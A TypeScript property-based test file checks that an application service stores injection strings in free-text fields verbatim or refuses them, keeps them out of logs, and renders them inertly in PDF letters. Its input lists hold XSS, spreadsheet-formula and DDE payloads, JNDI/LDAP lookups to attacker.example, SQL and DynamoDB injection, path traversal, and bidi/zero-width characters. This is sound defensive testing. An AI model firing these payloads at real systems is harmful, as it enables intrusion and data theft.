import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { inspect } from '../../functions/documents/inspect/inspect.ts';
import type { Route } from '../../shared/contract/route.ts';
import { roles as allRoles } from '../../shared/domain/access/roles.ts';
import { issuedCard, openMerchantOffice } from '../office/cards.ts';
import { people } from '../office/people.ts';
import { completeDraft, cook, register, scientist, submitted, waitingIn } from '../office/walk.ts';
import { pagesOfText, squeezed } from '../pdf-text.ts';
import { tally, times } from './bounds.ts';
import { everySection } from './every-section.ts';
import { seed } from './form.ts';
import { placesOf, replaced, type Schema, schemaAt, schemaOf, shaped } from './from-contract.ts';

const counted = tally('free text');
const office = await openMerchantOffice(everySection);
afterAll(() => office.close());

const employer = await register(office);
const waiting = await submitted(office, employer);
const cases = [
  await waitingIn(office, 'conclusion', employer, scientist),
  await waitingIn(office, 'review', employer, cook),
  await completeDraft(office, employer),
  waiting,
];
const card = await issuedCard(office);
const known = [employer, ...cases, card.number, ...Object.values(people).map(({ subject }) => subject)];
const here = () => known;

/** By this anything that was planted is known again. */
const mark = 'Qz7kPlanted';
/** What may be said: kept letter by letter, and nothing happens because of it. */
const sayable = [
  `<script>alert('${mark}')</script>`,
  `"><img src=x onerror=${mark}>`,
  `=HYPERLINK("https://attacker.example/${mark}","x")`,
  `@SUM(1+1)*cmd|'/c calc'!A0 ${mark}`,
  `{{constructor.constructor('${mark}')()}}`,
  `$\{jndi:ldap://attacker.example/${mark}}`,
  `'; DROP TABLE cases; -- ${mark}`,
  `SET #a = :${mark} REMOVE pk`,
  `attribute_exists(pk) OR #${mark} = :x`,
  `../../${mark}/%2e%2e%2f`,
  `\\u0000 %00 ${mark}`,
  `👩‍🚀🪪𠮷 ${mark}`.replace('\u200d', ''),
  `-2+3 ${mark}`,
];
/** What nobody sees, or what turns what is seen round: never kept. */
const unsayable = [
  `${mark}\u0000`,
  `${mark}\u202egpj.exe`,
  `${mark}\u200b`,
  `${mark}\u2066x\u2069`,
  `${mark}\ufeffx`,
  `${mark}\ud800`,
  `${mark}\u001b[31m`,
  `${mark}\u0085`,
  `${mark} \u{e0041}`,
];

const isFree = (leaf: Schema | undefined): boolean =>
  leaf?.type === 'string' && (leaf.pattern === undefined || leaf.pattern.includes('\\p{Cc}')) && !leaf.enum;

const rolesOf = ({ access }: Route) => (typeof access === 'string' ? allRoles : access);
const withText = office.routes.filter(({ body }) => body && /\\\\p\{Cc\}/.test(JSON.stringify(schemaOf(body))));

test('there are many places for free text', () => {
  expect(withText.length).toBeGreaterThan(50);
});

describe('whatever is written into a text of this body is kept as it was or refused, and stands in no log', () => {
  test.each(withText.map((route, at) => [`${route.method} ${route.path}`, route, at] as const))(
    '%s',
    async (_, route, at) => {
      const { body } = route;
      if (!body) throw new Error('a route without a body');
      const schema = schemaOf(body);
      const persons = Object.values(people).filter(({ roles }) => roles.some((role) => rolesOf(route).includes(role)));
      await fc.assert(
        fc.asyncProperty(
          shaped(schema, here),
          fc.constantFrom(...persons),
          fc.oneof(fc.constantFrom(...sayable), fc.constantFrom(...unsayable)),
          fc.nat(),
          async (fitting, who, words, pick) => {
            const places = placesOf(fitting).filter((place) => isFree(schemaAt(schema, fitting, place)));
            const place = places[pick % places.length];
            fc.pre(place !== undefined);
            office.log.lines.length = 0;
            const sent = replaced(fitting, place ?? [], words);
            const path = route.path.replace(/\{\w+\}/g, () => known[pick % known.length] ?? 'x1');
            const answer = await office.ask(who, `${route.method} ${path}`, { body: sent });
            counted.sent += 1;
            const what = `${JSON.stringify(sent)?.slice(0, 600)} → ${answer.status} ${JSON.stringify(answer.body)?.slice(0, 300)}`;
            expect(answer.status, what).toBeLessThan(500);
            if (answer.status >= 400) {
              counted.refused += 1;
              expect(JSON.stringify(answer.body.problems ?? []), what).not.toContain(mark);
            } else if (typeof answer.body === 'object' && JSON.stringify(answer.body).includes(mark)) {
              expect(JSON.stringify(answer.body), `${what}: as it was`).toContain(JSON.stringify(words).slice(1, -1));
            }
            expect(JSON.stringify(office.log.lines), what).not.toContain(mark);
          },
        ),
        { seed: seed + at, numRuns: times(12, 300), endOnFailure: true },
      );
    },
  );

  test('and nothing that cannot be seen, or that turns other words round, was kept anywhere', async () => {
    const table = (await office.items()).filter((item) => JSON.stringify(item).includes(mark));
    expect(table.length, 'something was kept').toBeGreaterThan(5);
    const texts = JSON.stringify(table);
    for (const words of unsayable)
      expect(texts, JSON.stringify(words)).not.toContain(JSON.stringify(words).slice(1, -1));
    for (const item of table) expect(`${item.pk} ${item.sk}`, 'no text becomes a key').not.toContain(mark);
  });
});

test.each(sayable)('a notice with %s in it is a letter that says so, and acts on nothing', async (words) => {
  const own = await openMerchantOffice();
  const id = await submitted(own, await register(own));
  const body = {
    decision: 'return',
    deficiencies: [
      {
        path: 'post.title',
        code: 'wrong',
        text: { zh: `岗位名称须写明 ${words}`, en: `State the post: ${words}` },
        remedy: { zh: '请补正', en: 'Please mend it' },
      },
    ],
  };
  const returned = await own.ask('front', `POST /api/applications/${id}/preliminary-review`, { body });
  counted.sent += 1;
  if (returned.status !== 200) {
    // Letters print what their typeface holds: what it does not is refused with the place.
    expect([returned.status, returned.body.type], JSON.stringify(returned.body)).toEqual([
      422,
      'urn:greenpath:problem:unprintable',
    ]);
    counted.refused += 1;
    await own.close();
    return;
  }
  await own.machine.settle();
  const { body: list } = await own.ask('employer', `GET /api/applications/${id}/letters`);
  const { number } = list.items.at(-1);
  const letter = await own.ask('employer', `GET /api/applications/${id}/letters/${number}.pdf`, {
    query: { language: 'en' },
  });
  const bytes = Buffer.from(letter.body, 'base64');
  const found = await inspect(new Uint8Array(bytes), { contentType: 'application/pdf' });
  expect([found.readable, found.activeContent, found.hiddenFiles]).toEqual([true, [], []]);
  expect(squeezed((await pagesOfText(bytes)).join(''))).toContain(squeezed(words));
  expect(letter.headers['x-content-type-options']).toBe('nosniff');
  await own.close();
});
